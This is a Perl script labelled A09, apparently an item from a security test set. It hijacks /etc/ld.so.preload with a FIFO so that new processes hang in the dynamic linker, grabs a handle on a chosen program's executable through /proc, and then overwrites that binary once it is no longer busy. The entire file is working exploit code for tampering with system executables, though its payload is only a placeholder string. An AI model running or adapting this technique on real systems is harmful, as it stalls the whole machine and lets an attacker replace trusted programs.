# A09: lies in wait, inside, for a process that runs a program of the name in $ARGV[0], takes hold of
# that file by the process, and writes to it when the process is gone. What holds the process until
# then is a library that its dynamic linker is told to load, a pipe that nobody writes to.
my $name = $ARGV[0];
system('mkfifo', '/var/tmp/hold') == 0 or die;
open(my $preload, '>', '/etc/ld.so.preload') or die;
print $preload "/var/tmp/hold\n";
close $preload;
sub note { open(my $log, '>>', '/var/tmp/log') or die; print $log "$_[0]\n"; close $log }
note('ready');
my $program;
while (!$program) {
    for my $process (glob('/proc/[0-9]*')) {
        my $link = readlink("$process/exe");
        next unless defined $link && $link =~ /$name/;
        open($program, '<', "$process/exe") or next;
        note("held $link");
        last;
    }
}
open(my $go, '>', '/var/tmp/hold') or die;
unlink('/etc/ld.so.preload');
close $go;
while (1) {
    my $out;
    if (open($out, '+<', '/proc/self/fd/' . fileno($program)) && syswrite($out, "overwritten\n")) {
        note('written');
        last;
    }
    unless ($!{ETXTBSY}) { note("refused: $!"); last }
    select(undef, undef, undef, 0.01);
}
